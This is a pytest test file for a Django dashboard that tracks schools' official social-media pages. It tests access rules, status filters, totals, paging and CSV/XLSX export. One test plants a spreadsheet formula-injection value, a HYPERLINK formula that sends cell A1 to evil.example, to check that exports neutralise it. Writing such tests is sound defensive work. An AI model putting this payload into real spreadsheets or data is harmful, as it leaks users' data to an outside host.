"""The methodologist's dashboard: who may open it, the overall status of DESIGN §3.2 as the
rows show it, each filter, sorting, paging, totals in the briefing's words, the export of
exactly the filtered rows, and a query count that does not grow with the district."""

from __future__ import annotations

import csv
import datetime
import io
import re
from html import unescape

import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from checklist.models import ChecklistEntry, WorkStatus
from checklist.services import entries_ensure
from monitoring.models import PageState
from organizations.models import OfficialPage, Organization, natural_key
from reports.tests import world
from tests.factories import DistrictFactory, OrganizationFactory, methodologist

URL = reverse("dashboard")
XLSX = reverse("dashboard-export", args=["xlsx"])
CSV = reverse("dashboard-export", args=["csv"])
TODAY = world.today


# --- reading the page the way a person reads it ----------------------------------------------


def _text(fragment: str) -> str:
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", fragment)).split()).replace(" :", ":").replace(" ,", ",")


def rows(response) -> list[str]:
    """Short names of the rows shown, top to bottom."""
    assert response.status_code == 200, response.status_code
    return [unescape(name) for name in re.findall(r'<tr data-org="([^"]+)"', response.content.decode())]


def cell(response, short_name: str, column: str) -> tuple[str, str]:
    """(css class, tooltip) of one cell of one row."""
    html = response.content.decode()
    row = re.search(r'<tr data-org="%s">(.*?)</tr>' % re.escape(short_name), html, re.S)
    assert row, f"no row for {short_name}"
    found = re.search(
        r'<td class="(?:text-center )?([\w-]+)(?: col-total)?" tabindex="0" data-tip title="([^"]*)" data-column="%s">'
        % re.escape(column), row.group(1),
    )
    assert found, f"no {column} cell for {short_name}"
    return found.group(1), unescape(found.group(2))


def status_of(response, short_name: str) -> str:
    css, _title = cell(response, short_name, "status")
    return css.removeprefix("cell-")


def _tiles(response) -> dict[str, str]:
    html = response.content.decode()
    return dict(re.findall(r'<li data-total="([^"]*)">(.*?)</li>', html, re.S))


def totals(response) -> dict[str, str]:
    """Each tile as «label: N из M»."""
    found = {}
    for code, body in _tiles(response).items():
        label = re.search(r'<span class="tile-label">(.*?)</span>', body, re.S).group(1)
        figure = re.search(r'<span class="tile-figure">(.*?)</span>', body, re.S).group(1)
        found[code] = f"{_text(label)}: {_text(figure)}"
    return found


def changes(response) -> dict[str, str]:
    """Each tile's change since a week ago, in words («» when the view has no history)."""
    found = {}
    for code, body in _tiles(response).items():
        change = re.search(r'<span class="tile-change">(.*)</span>', body, re.S)
        found[code] = _text(change.group(1)) if change else ""
    return found


def reasons(response, short_name: str) -> str:
    """The words under the organization's «Итог»."""
    html = response.content.decode()
    row = re.search(r'<tr data-org="%s">(.*?)</tr>' % re.escape(short_name), html, re.S)
    total = re.search(r'data-column="status">(.*?)</td>', row.group(1), re.S).group(1)
    found = re.search(r'<span class="d-block small">(.*?)</span>', total, re.S)
    return _text(found.group(1)) if found else ""


# --- a small district ---------------------------------------------------------------------------


@pytest.fixture
def district(actors):
    """Five organizations, each a different case of DESIGN §3.2:

    - СОШ №9 (A): everything in order;
    - д/с №10 (B): VK irregular and info missing → warning;
    - СОШ №26: fewer than 2 posts on VK → fail; order not approved;
    - д/с №3: no OK page at all → fail;
    - «Юниор»: VK page registered but never swept → unknown, OK fine.
    """
    world.compliant(actors.org_a)
    world.compliant(actors.org_b, regular=False, missing_info=["email"])
    few = OrganizationFactory(short_name="СОШ №26")
    world.compliant(few, posts_total=1)
    world.paperwork(few, WorkStatus.NOT_STARTED, codes=["order_responsible"])
    no_ok = OrganizationFactory(short_name="д/с №3", kind="kindergarten")
    world.page(no_ok, "vk", world.verdict())
    world.paperwork(no_ok)
    world.judge(no_ok)
    unchecked = OrganizationFactory(short_name="«Юниор»", kind="additional")
    world.page(unchecked, "vk")
    world.page(unchecked, "ok", world.verdict())
    world.paperwork(unchecked)
    world.judge(unchecked)
    return {"few": few, "no_ok": no_ok, "unchecked": unchecked}


# --- access ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [URL, XLSX, CSV])
def test_anonymous_visitor_is_sent_to_the_login_page(actors, url):
    response = actors.client_for(None).get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


@pytest.mark.parametrize("url", [URL, XLSX, CSV])
def test_staff_cannot_open_the_dashboard_or_its_export(actors, url):
    response = actors.client_for(actors.staff_a).get(url)

    assert response.status_code == 403


def test_methodologist_sees_every_organization_of_the_district(actors, district):
    response = actors.client_for(actors.methodologist).get(URL)

    assert sorted(rows(response)) == sorted(["СОШ №9", "СОШ №26", "д/с №10", "д/с №3", "«Юниор»"])
    assert "Найдено организаций: 5" in response.content.decode()


def test_a_district_methodologist_sees_only_their_district(actors, district):
    elsewhere = OrganizationFactory(short_name="СОШ №1 г. Ейска", district=DistrictFactory(name="Ейский район"))
    world.compliant(elsewhere)
    local = methodologist(district=actors.org_a.district, username="metodist_kush")
    client = actors.client_for(local)

    response = client.get(URL)
    exported = load_workbook(io.BytesIO(client.get(XLSX).content)).active

    assert "СОШ №1 г. Ейска" not in rows(response)
    assert len(rows(response)) == 5
    assert totals(response)["vk_gov_mark"].endswith("из 5")
    assert "СОШ №1 г. Ейска" not in [row[0] for row in exported.iter_rows(min_row=2, values_only=True)]
    # The regional methodologist (no district) sees both districts.
    assert "СОШ №1 г. Ейска" in rows(actors.client_for(actors.methodologist).get(URL))


# --- the overall status (DESIGN §3.2) -------------------------------------------------------------


def test_each_row_shows_the_worst_of_its_pages_and_paperwork(actors, district):
    response = actors.client_for(actors.methodologist).get(URL)

    assert status_of(response, "СОШ №9") == "ok"
    assert status_of(response, "д/с №10") == "warning"
    assert status_of(response, "СОШ №26") == "fail"
    assert status_of(response, "д/с №3") == "fail"  # a missing page is a failure
    assert status_of(response, "«Юниор»") == "unknown"  # a page never read is unknown, never a failure
    assert cell(response, "д/с №3", "ok_page") == ("cell-fail", "нарушение — страница не зарегистрирована")


def test_unapproved_paperwork_is_a_warning_until_its_due_date_and_a_failure_after(actors):
    world.compliant(actors.org_a)
    world.compliant(actors.org_b)
    world.paperwork(actors.org_a, WorkStatus.NOT_STARTED, codes=["instruction"])
    world.paperwork(actors.org_b, WorkStatus.SUBMITTED, codes=["instruction"])
    client = actors.client_for(actors.methodologist)

    world.item_due("instruction", TODAY() + datetime.timedelta(days=10))
    before = client.get(URL)
    world.item_due("instruction", TODAY())
    on_the_day = client.get(URL)
    world.item_due("instruction", TODAY() - datetime.timedelta(days=1))
    after = client.get(URL)

    assert [status_of(before, "СОШ №9"), status_of(before, "д/с №10")] == ["warning", "warning"]
    assert [status_of(on_the_day, "СОШ №9"), status_of(on_the_day, "д/с №10")] == ["warning", "warning"]
    assert [status_of(after, "СОШ №9"), status_of(after, "д/с №10")] == ["fail", "fail"]
    css, title = cell(after, "СОШ №9", "item_instruction")
    assert css == "cell-fail"
    assert "истёк" in title


def test_an_organizations_own_later_due_date_keeps_its_paperwork_a_warning(actors):
    """The item's district-wide date has passed, but this school was given until next month."""
    world.compliant(actors.org_a)
    world.paperwork(actors.org_a, WorkStatus.NOT_STARTED, codes=["order_responsible"])
    world.item_due("order_responsible", TODAY() - datetime.timedelta(days=30))
    ChecklistEntry.objects.filter(organization=actors.org_a, item__code="order_responsible").update(
        due_date=TODAY() + datetime.timedelta(days=30)
    )

    response = actors.client_for(actors.methodologist).get(URL)

    assert status_of(response, "СОШ №9") == "warning"
    css, title = cell(response, "СОШ №9", "item_order_responsible")
    assert css == "cell-warning"
    assert "истёк" not in title


def test_a_known_failure_outranks_an_unknown_page(actors):
    world.page(actors.org_a, "vk", world.verdict(error="Ошибка API", posts_total=None))
    world.paperwork(actors.org_a)

    response = actors.client_for(actors.methodologist).get(URL)

    assert cell(response, "СОШ №9", "vk_page")[0] == "cell-unknown"
    assert status_of(response, "СОШ №9") == "fail"  # the OK page is missing


# --- filters ------------------------------------------------------------------------------------


def test_the_kind_filter_shows_only_that_kind(actors, district):
    response = actors.client_for(actors.methodologist).get(URL, {"kind": "kindergarten"})

    assert sorted(rows(response)) == ["д/с №10", "д/с №3"]


def test_the_status_filter_shows_only_rows_with_that_overall_status(actors, district):
    client = actors.client_for(actors.methodologist)

    assert sorted(rows(client.get(URL, {"status": "fail"}))) == ["СОШ №26", "д/с №3"]
    assert rows(client.get(URL, {"status": "ok"})) == ["СОШ №9"]
    assert rows(client.get(URL, {"status": "unknown"})) == ["«Юниор»"]
    assert rows(client.get(URL, {"status": "warning"})) == ["д/с №10"]


def test_the_network_filter_shows_every_organization_whose_page_there_is_not_in_order(actors, district):
    client = actors.client_for(actors.methodologist)

    # СОШ №26 fails, д/с №10 has remarks, «Юниор» was never checked.
    assert set(rows(client.get(URL, {"network": "vk"}))) == {"СОШ №26", "д/с №10", "«Юниор»"}
    # д/с №3 has no OK page at all: that is the first thing wrong there.
    assert rows(client.get(URL, {"network": "ok"})) == ["д/с №3"]


def test_a_paperwork_criterion_shows_those_without_an_approved_document(actors, district):
    response = actors.client_for(actors.methodologist).get(URL, {"criterion": "order_responsible"})

    assert rows(response) == ["СОШ №26"]


def test_an_automatic_criterion_shows_those_the_sweep_did_not_find_compliant(actors, district):
    client = actors.client_for(actors.methodologist)

    assert rows(client.get(URL, {"criterion": "min_two_posts"})) == ["СОШ №26", "д/с №3", "«Юниор»"]
    # д/с №10 lacks an e-mail, д/с №3 has no OK page to judge, «Юниор»'s VK page is not read yet.
    assert rows(client.get(URL, {"criterion": "mandatory_info"})) == ["д/с №3", "д/с №10", "«Юниор»"]


def test_the_vk_regularity_criterion_shows_the_irregular_ones(actors, district):
    world.page(OrganizationFactory(short_name="СОШ №4"), "vk", world.verdict(regular=False))
    world.page(OrganizationFactory(short_name="СОШ №14"), "vk", world.verdict(regular=True))

    response = actors.client_for(actors.methodologist).get(URL, {"criterion": "vk_regular"})

    assert "д/с №10" in rows(response)
    assert "СОШ №4" in rows(response)
    assert "СОШ №14" not in rows(response)
    assert "СОШ №9" not in rows(response)


def test_each_criterion_total_plus_its_filtered_rows_is_the_whole(actors, district):
    """Clicking a total shows exactly the organizations it does not count."""
    client = actors.client_for(actors.methodologist)
    shown = totals(client.get(URL))

    assert len(shown) == 13  # eleven checklist items and regularity on each network
    for code, text in shown.items():
        done, total = map(int, re.search(r"(\d+) из (\d+)$", text).groups())
        assert total == 5
        assert done + len(rows(client.get(URL, {"criterion": code}))) == total, code


def test_search_finds_by_short_or_full_name_in_any_letter_case(actors, district):
    client = actors.client_for(actors.methodologist)

    assert rows(client.get(URL, {"q": "СОШ №26"})) == ["СОШ №26"]
    assert rows(client.get(URL, {"q": "сош №26"})) == ["СОШ №26"]
    assert rows(client.get(URL, {"q": "юниор"})) == ["«Юниор»"]
    assert rows(client.get(URL, {"q": "МБОУ СОШ №9"})) == ["СОШ №9"]
    assert rows(client.get(URL, {"q": "гимназия"})) == []


def test_unknown_filter_values_and_a_bad_page_number_show_everything(actors, district):
    response = actors.client_for(actors.methodologist).get(
        URL, {"kind": "university", "status": "great", "network": "tg", "criterion": "nope", "sort": "x", "page": "abc"}
    )

    assert len(rows(response)) == 5


def test_filters_combine(actors, district):
    response = actors.client_for(actors.methodologist).get(URL, {"kind": "school", "status": "fail"})

    assert rows(response) == ["СОШ №26"]


def test_sorting_by_status_puts_failures_first(actors, district):
    client = actors.client_for(actors.methodologist)

    by_status = client.get(URL, {"sort": "status"})
    reverse_order = client.get(URL, {"sort": "-status"})

    statuses = [status_of(by_status, name) for name in rows(by_status)]
    assert statuses == ["fail", "fail", "unknown", "warning", "ok"]
    assert rows(reverse_order)[0] == "СОШ №9"
    # By name (the default): schools first, in natural order, as the briefing lists them.
    assert rows(client.get(URL)) == ["СОШ №9", "СОШ №26", "д/с №3", "д/с №10", "«Юниор»"]


# --- totals ---------------------------------------------------------------------------------------


def test_totals_read_like_the_briefing(actors, district):
    PageState.objects.filter(page__organization=district["few"], page__network="vk").update(
        verdict=world.verdict(gov_mark=False), status="fail"
    )
    world.judge(district["few"])
    client = actors.client_for(actors.methodologist)

    shown = totals(client.get(URL))
    schools = totals(client.get(URL, {"kind": "school"}))

    # «Юниор»'s VK page was never read: not counted as marked.
    assert shown["vk_gov_mark"] == "Метка «Госорганизация» ВКонтакте: 3 из 5"
    assert shown["ok_gov_mark"] == "Метка «Госорганизация» в Одноклассниках: 4 из 5"
    assert shown["order_responsible"] == "Приказ о назначении ответственных за ведение официальных страниц: 4 из 5"
    assert shown["vk_regular"] == "Регулярные публикации ВКонтакте: 3 из 5"
    assert schools["vk_gov_mark"] == "Метка «Госорганизация» ВКонтакте: 1 из 2"


def test_the_total_says_why_in_words_worst_first(actors, district):
    response = actors.client_for(actors.methodologist).get(URL)

    # СОШ №26: its order not uploaded past the deadline and one post on VK: two violations, in
    # the checklist's order; the tooltip says each in full.
    assert reasons(response, "СОШ №26") == "Приказ: срок истёк, ≥ 2 публикаций"
    assert "истёк" in cell(response, "СОШ №26", "status")[1]
    assert reasons(response, "д/с №3").startswith("нет страницы: Одноклассники")
    assert "Метка ОК" not in reasons(response, "д/с №3")  # said once: no page, so no mark
    assert reasons(response, "д/с №10").startswith("нерегулярно: ВКонтакте")
    assert reasons(response, "СОШ №9") == ""


def test_a_tile_shows_the_change_since_a_week_ago(actors, district):
    from reports.selectors import record_criteria

    record_criteria(today=TODAY() - datetime.timedelta(days=8))
    ChecklistEntry.objects.filter(organization=district["few"], item__code="order_responsible").update(
        status=WorkStatus.APPROVED
    )
    PageState.objects.filter(page__organization=actors.org_a, page__network="vk").update(
        verdict=world.verdict(gov_mark=False), status="fail"
    )
    world.judge(actors.org_a)
    client = actors.client_for(actors.methodologist)

    shown = changes(client.get(URL))
    assert shown["order_responsible"] == "▲ 1 за неделю"
    assert shown["vk_gov_mark"] == "▼ 1 за неделю"
    assert shown["ok_gov_mark"] == "= за неделю без изменений"
    assert changes(client.get(URL, {"kind": "school"}))["order_responsible"] == "▲ 1 за неделю"
    assert changes(client.get(URL, {"kind": "kindergarten"}))["order_responsible"] == "= за неделю без изменений"
    # A search or a status filter has no history to compare with: no arrow rather than a wrong one.
    assert set(changes(client.get(URL, {"q": "СОШ"})).values()) == {""}


def test_without_a_week_of_history_no_tile_claims_a_change(actors, district):
    from reports.selectors import record_criteria

    record_criteria(today=TODAY() - datetime.timedelta(days=3))

    assert set(changes(actors.client_for(actors.methodologist).get(URL)).values()) == {""}


def test_a_finished_sweep_records_the_days_totals(actors, district):
    from monitoring.models import DailyMetric, SweepRun
    from monitoring.sweep.run import sweep_finish

    run = SweepRun.objects.create(started_at=timezone.now(), trigger=SweepRun.Trigger.MANUAL)
    assert sweep_finish(run)

    criteria = DailyMetric.objects.get().data["criteria"]
    district_id = actors.org_a.district_id
    assert criteria[f"{district_id}:school"]["order_responsible"] == 1  # СОШ №9 approved, СОШ №26 not
    assert criteria[f"{district_id}:kindergarten"]["ok_gov_mark"] == 1  # д/с №10 only: д/с №3 has no OK page


def test_on_a_phone_each_organization_is_a_card_with_its_status_and_reasons(actors, district):
    html = actors.client_for(actors.methodologist).get(URL).content.decode()

    cards = dict(re.findall(r'<li class="org-card [\w-]+" data-org="([^"]+)">(.*?)</li>', html, re.S))
    assert list(map(unescape, cards)) == ["СОШ №9", "СОШ №26", "д/с №3", "д/с №10", "«Юниор»"]
    assert _text(cards["д/с №3"]).startswith("д/с №3 ✗ нарушение нет страницы: Одноклассники")
    assert _text(cards["СОШ №9"]).endswith("✓ в порядке")


def test_the_legend_is_the_status_filter_with_counts(actors, district):
    html = actors.client_for(actors.methodologist).get(URL).content.decode()

    chips = {code: _text(body) for code, body in re.findall(r'data-status="(\w+)">(.*?)</a>', html, re.S)}
    assert chips == {"fail": "✗ нарушение 2", "unknown": "? нет данных 1", "warning": "! есть замечания 1", "ok": "✓ в порядке 1"}


# --- paging -------------------------------------------------------------------------------------


def test_rows_come_a_hundred_to_a_page_and_the_next_page_keeps_the_filters(actors):
    bulk_organizations(actors.org_a.district, 1000, 120, kinds=["school"])
    client = actors.client_for(actors.methodologist)

    first = client.get(URL, {"kind": "school"})
    second = client.get(URL, {"kind": "school", "page": 2})

    assert len(rows(first)) == 100
    assert len(rows(second)) == 21  # 120 + СОШ №9
    assert not set(rows(first)) & set(rows(second))
    assert "Найдено организаций: 121" in first.content.decode()
    assert 'href="?kind=school&amp;page=2"' in first.content.decode()
    assert 'href="?kind=school&amp;page=1"' in second.content.decode()


# --- export -------------------------------------------------------------------------------------


def test_the_xlsx_export_has_exactly_the_filtered_rows(actors, district):
    client = actors.client_for(actors.methodologist)
    shown = client.get(URL, {"status": "fail", "sort": "status"})

    response = client.get(XLSX, {"status": "fail", "sort": "status"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "attachment" in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, *body = list(sheet.iter_rows(values_only=True))
    assert header[:4] == ("Краткое название", "Полное название", "Тип", "Итог")
    assert [row[0] for row in body] == rows(shown)
    assert {row[3] for row in body} == {"нарушение"}
    few = next(row for row in body if row[0] == "СОШ №26")
    assert few[2] == "Школа"
    assert few[header.index("Приказ")] == "Не начато"


def test_the_csv_export_has_exactly_the_filtered_rows_and_opens_in_excel(actors, district):
    client = actors.client_for(actors.methodologist)

    response = client.get(CSV, {"kind": "kindergarten"})

    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    header, *body = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header[0] == "Краткое название"
    assert sorted(row[0] for row in body) == ["д/с №10", "д/с №3"]
    assert all(len(row) == len(header) for row in body)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_says_which_page_values_are_kept_from_an_earlier_sweep(actors, fmt):
    world.wall_unread_tonight(actors.org_a)
    world.compliant(actors.org_b)

    response = actors.client_for(actors.methodologist).get(CSV if fmt == "csv" else XLSX)

    if fmt == "csv":
        header, *body = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        header, *body = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert list(header[-3:]) == ["ВКонтакте: устаревшие данные", "Одноклассники: устаревшие данные", "Район"]
    vk, ok = -3, -2
    rows = {row[0]: row for row in body}
    assert rows["СОШ №9"][vk] == "устарело: публикаций всего, по неделям, текущая неделя, регулярность, публикации не от имени сообщества (данные от 11.03.2025 06:00)"
    assert rows["СОШ №9"][header.index("ВКонтакте: регулярность")] == "да"  # the kept value, said stale beside it
    assert rows["СОШ №9"][ok] in ("", None) and rows["д/с №10"][vk] in ("", None)


def test_the_export_is_not_cut_at_a_page(actors):
    bulk_organizations(actors.org_a.district, 1000, 150)
    response = actors.client_for(actors.methodologist).get(CSV)

    assert len(list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))) == 1 + 152


# --- the query budget (the requirement) -----------------------------------------------


def bulk_organizations(district, start: int, count: int, kinds=("school", "kindergarten", "additional", "other")) -> None:
    """`count` organizations the way an import of a region would add them: in bulk, with
    their checklist entries, most with a VK page, some with an OK page, a third swept."""
    organizations = [
        Organization(district=district, short_name=f"ОО №{n}", name=f"Образовательная организация №{n}",
                     kind=kinds[n % len(kinds)], sort_name=natural_key(f"ОО №{n}"))
        for n in range(start, start + count)
    ]
    Organization.objects.bulk_create(organizations)
    entries_ensure()
    created = Organization.objects.filter(short_name__in=[o.short_name for o in organizations])
    pages = []
    for organization in created:
        if organization.pk % 5:
            pages.append(OfficialPage(organization=organization, network="vk", url=f"https://vk.com/club{organization.pk}",
                                      link_kind="club", link_value=str(organization.pk)))
        if organization.pk % 2:
            pages.append(OfficialPage(organization=organization, network="ok", url=f"https://ok.ru/group/{organization.pk}",
                                      link_kind="group", link_value=str(organization.pk)))
    OfficialPage.objects.bulk_create(pages)
    states = [
        PageState(page=page, status=state["status"], verdict=state, checked_at=world.CHECKED_AT)
        for page in OfficialPage.objects.filter(organization__in=created)
        if page.pk % 3 == 0
        for state in [world.verdict(regular=bool(page.pk % 2))]
    ]
    PageState.objects.bulk_create(states)


def test_the_dashboard_costs_the_same_queries_at_52_organizations_as_at_1000(actors, district):
    bulk_organizations(actors.org_a.district, 1000, 47)
    client = actors.client_for(actors.methodologist)
    client.get(URL)  # warm the session and the content-type caches

    cache.clear()  # the rows computed, not kept (reports.cache; test_dashboard_cache)
    with CaptureQueriesContext(connection) as at_52:
        small = client.get(URL)
    bulk_organizations(actors.org_a.district, 2000, 948)
    cache.clear()
    with CaptureQueriesContext(connection) as at_1000:
        large = client.get(URL)

    assert "Найдено организаций: 52" in small.content.decode()
    assert "Найдено организаций: 1000" in large.content.decode()
    assert len(rows(large)) == 100
    assert len(at_52) == len(at_1000), "\n".join(q["sql"][:150] for q in at_1000.captured_queries)
    # 12, the menu's count of documents waiting for review, max_required, the data's version (reports.cache),
    # and what the page is kept against for its reader (their own rows and the data's version, read first)
    assert len(at_1000) <= 17, len(at_1000)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_imported_name_that_looks_like_a_formula_is_exported_as_text(actors, fmt):
    actors.org_a.name = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
    actors.org_a.save()
    world.compliant(actors.org_a)

    response = actors.client_for(actors.methodologist).get(CSV if fmt == "csv" else XLSX)

    if fmt == "csv":
        header, *body = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        header, *body = list(sheet.iter_rows(values_only=True))
    row = next(row for row in body if row[0] == "СОШ №9")
    assert row[1] == "'" + actors.org_a.name  # OWASP's apostrophe: Excel shows the text, runs nothing


def test_the_agenda_says_what_waits_today(actors, district):
    from monitoring.models import ChangeEvent, SweepRun

    ChecklistEntry.objects.filter(organization=actors.org_a, item__code="instruction").update(status=WorkStatus.SUBMITTED)
    run = SweepRun.objects.create(started_at=timezone.now(), finished_at=timezone.now(), trigger=SweepRun.Trigger.SCHEDULE)
    page = OfficialPage.objects.filter(organization=actors.org_a).first()
    for severity in (ChangeEvent.Severity.CRITICAL, ChangeEvent.Severity.INFO):
        ChangeEvent.objects.create(page=page, organization=actors.org_a, run=run, kind="renamed", severity=severity, message="…")

    html = actors.client_for(actors.methodologist).get(URL).content.decode()

    agenda = dict(re.findall(r'data-agenda="(\w+)">(.*?)</a>', html, re.S))
    assert _text(agenda["waiting"]) == "Документов ждут проверки: 1 →"
    assert _text(agenda["events"]) == "Изменений на страницах за последнюю проверку: 2, срочных: 1 →"
    assert f'href="{reverse("sweep-detail", args=[run.pk])}"' in html


def test_a_run_of_a_few_pages_or_of_another_district_is_not_the_district_s_last_sweep(actors):
    """A MAX channel read at one school, or the next district's «Проверить сейчас», reads none of
    this district's other pages: judged against its start they would all turn grey «данные
    устарели», and its time and changes are not this district's."""
    from monitoring.models import ChangeEvent, SweepRun

    world.page(actors.org_a, "vk", world.verdict())
    district = actors.org_a.district
    ours = SweepRun.objects.create(started_at=world.CHECKED_AT - datetime.timedelta(hours=1), finished_at=world.CHECKED_AT,
                                   trigger=SweepRun.Trigger.MANUAL, scope=f"district:{district.pk}")
    later = timezone.now()
    other = DistrictFactory(name="Соседний район")
    theirs = SweepRun.objects.create(started_at=later, finished_at=later, trigger=SweepRun.Trigger.MANUAL,
                                     scope=f"district:{other.pk}")
    channel = SweepRun.objects.create(started_at=later, finished_at=later, trigger=SweepRun.Trigger.MANUAL,
                                      scope="orgs:" + "0" * 32, networks=["max"])
    page = OfficialPage.objects.get(organization=actors.org_a, network="vk")
    ChangeEvent.objects.create(page=page, organization=actors.org_a, run=ours, kind="renamed",
                               severity=ChangeEvent.Severity.INFO, message="…")
    ChangeEvent.objects.create(page=page, organization=actors.org_a, run=channel, kind="renamed",
                               severity=ChangeEvent.Severity.CRITICAL, message="…")

    response = actors.client_for(methodologist(district=district, username="met-ours")).get(URL)

    css, title = cell(response, "СОШ №9", "vk_page")
    assert css == "cell-ok" and "устарели" not in title, title
    html = response.content.decode()
    assert "Последняя проверка страниц: 12.03.2025 06:00" in _text(html)
    assert f'href="{reverse("sweep-detail", args=[ours.pk])}"' in html
    assert f'href="{reverse("sweep-detail", args=[theirs.pk])}"' not in html
    agenda = dict(re.findall(r'data-agenda="(\w+)">(.*?)</a>', html, re.S))
    assert _text(agenda["events"]) == "Изменений на страницах за последнюю проверку: 1 →"

    # The region's run that starts after the page was read does make it stale.
    SweepRun.objects.create(started_at=later, finished_at=later, trigger=SweepRun.Trigger.SCHEDULE, scope="all")
    css, title = cell(actors.client_for(methodologist(district=district, username="met-2")).get(URL), "СОШ №9", "vk_page")
    assert "данные устарели" in title, title


def test_a_district_methodologist_cannot_drill_into_another_district(actors):
    other = DistrictFactory(name="Соседний район")
    OrganizationFactory(short_name="СОШ №1", district=other)
    client = actors.client_for(methodologist(district=actors.org_a.district, username="met-ours"))

    for url in (f"{URL}?district={other.pk}", f"{XLSX}?district={other.pk}"):
        response = client.get(url)
        assert response.status_code == 404, url
        assert "Соседний район" not in response.content.decode()
    assert client.get(f"{URL}?district={actors.org_a.district.pk}").status_code == 200
    coordinator = actors.client_for(actors.methodologist)
    assert coordinator.get(f"{URL}?district=987654").status_code == 404
    assert "Соседний район" in coordinator.get(f"{URL}?district={other.pk}").content.decode()


def test_rows_name_their_district_where_the_list_spans_several(actors):
    """Every district has its «СОШ №1»: the coordinator's region-wide list tells them apart, a
    district's own list (or a region of one district) does not repeat its name on every row."""
    alone = actors.client_for(actors.methodologist).get(URL).content.decode()
    assert "data-district" not in alone and "Госпаблики района" in alone and "Госпаблики региона" not in alone
    other = DistrictFactory(name="Соседний район")
    OrganizationFactory(short_name="СОШ №9", district=other)

    html = actors.client_for(actors.methodologist).get(URL).content.decode()
    named = re.findall(r'<tr data-org="СОШ №9">.*?data-district>(.*?)</span>', html, re.S)
    assert sorted(named) == sorted([actors.org_a.district.name, "Соседний район"])
    # On a phone too: the cards of the two «СОШ №9» say whose they are.
    carded = re.findall(r'<li class="org-card[^"]*" data-org="СОШ №9">.*?data-district>(.*?)</div>', html, re.S)
    assert sorted(carded) == sorted(named)
    assert "<h1 class=\"h3 mb-1\">Госпаблики региона</h1>" in html
    drilled = actors.client_for(actors.methodologist).get(f"{URL}?district={other.pk}").content.decode()
    assert "data-district" not in drilled and "Госпаблики района: Соседний район" in drilled
    ours = actors.client_for(methodologist(district=actors.org_a.district, username="met-ours")).get(URL)
    assert "data-district" not in ours.content.decode()

    sheet = load_workbook(io.BytesIO(actors.client_for(actors.methodologist).get(XLSX).content)).active
    header, *body = list(sheet.iter_rows(values_only=True))
    assert sorted(row[header.index("Район")] for row in body if row[0] == "СОШ №9") == sorted(named)
